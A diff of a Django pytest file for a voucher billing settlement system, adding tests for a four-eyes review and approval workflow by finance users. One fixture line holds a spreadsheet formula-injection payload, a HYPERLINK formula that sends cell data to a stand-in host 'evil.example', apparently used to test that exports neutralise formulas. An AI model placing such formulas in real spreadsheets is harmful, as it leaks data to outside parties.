@@ -5,6 +5,7 @@ import io
 from decimal import Decimal
 
 import pytest
+from django.contrib.auth.models import Group
 from django.core.management import CommandError, call_command
 from django.utils import translation
 from openpyxl import Workbook, load_workbook
@@ -17,6 +18,7 @@ from billing.services import settle
 from config.months import SHANGHAI
 from config.xlsx import text_cell
 from tests.billing.conftest import MONTH, City
+from tests.factories import UserFactory
 from vouchers.models import Redemption
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
@@ -47,7 +49,7 @@ def settled_city(db):
     city.serve(tier="low_fee", provider="prov-b", item="meal", quantity="3")
     city.serve(tier="paid", provider="prov-b", quantity="1", day=7)
     city.void(city.serve(tier="paid", item="meal", quantity="1", day=8))
-    settle(month=MONTH)
+    settle(month=MONTH, job="test")
     return city
 
 
@@ -252,9 +254,31 @@ def test_settle_command_prints_a_summary(db, capsys):
     assert "1 redemptions" in printed
     assert "total 60.00 CNY (government 42.00, seniors 18.00)" in printed
 
-    # and a second run is refused with the reason
-    with translation.override("en"), pytest.raises(CommandError, match="already been settled"):
-        call_command("settle", "--period", "2026-10")
+    assert Statement.objects.filter(prepared_by_job="manage.py settle").count() == 3
+
+    # and a second run, by a finance user, drafts the same figures under their name
+    fin = make_finance("fin")
+    make_finance("fin2")
+    with translation.override("en"):
+        call_command("settle", "--period", "2026-10", "--by", "fin")
+    assert "total 60.00 CNY (government 42.00, seniors 18.00)" in capsys.readouterr().out
+    assert Statement.objects.filter(prepared_by=fin).count() == 3
+
+    # and the preparer cannot approve, a second finance user can, after which it is not settled again
+    with translation.override("en"):
+        call_command("review_settlement", "--period", "2026-10", "--provider", "prov-a", "--by", "fin")
+        with pytest.raises(CommandError, match="four_eyes"):
+            call_command("approve_settlement", "--period", "2026-10", "--provider", "prov-a", "--by", "fin")
+        call_command("approve_settlement", "--period", "2026-10", "--provider", "prov-a", "--by", "fin2")
+        assert "approved by fin2; payment due" in capsys.readouterr().out
+        with pytest.raises(CommandError, match="is approved"):
+            call_command("settle", "--period", "2026-10", "--by", "fin")
+
+
+def make_finance(username):
+    user = UserFactory(username=username)
+    user.groups.add(Group.objects.get_or_create(name="finance")[0])
+    return user
 
 
 def test_settle_command_refuses_a_month_that_has_not_ended(db):
